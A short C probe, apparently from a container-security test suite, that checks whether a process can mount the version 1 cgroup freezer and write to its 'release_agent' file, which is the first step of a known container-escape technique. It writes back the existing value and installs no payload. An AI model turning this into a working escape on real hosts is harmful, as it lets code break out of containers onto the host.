/* Sets the program that the kernel runs for an empty control group (as it was). */
#include "attack.h"

void attack(int n, char **word) {
    char text[PATH_MAX] = "";
    (void)n;
    (void)word;
    if (!text_has("/proc/self/cgroup", ":freezer:")) absent("no freezer of version 1");
    int tree = new_mount("cgroup", "freezer", NULL);
    if (tree < 0) {
        take_namespaces(CLONE_NEWNS | CLONE_NEWCGROUP);
        tree = (int)TRY(new_mount("cgroup", "freezer", NULL));
    }
    int fd = (int)TRY(openat(tree, "release_agent", O_RDWR));
    TRY(read(fd, text, sizeof text - 2));
    if (!*text) strcpy(text, "\n");
    TRY(pwrite(fd, text, strlen(text), 0));
    reached();
}
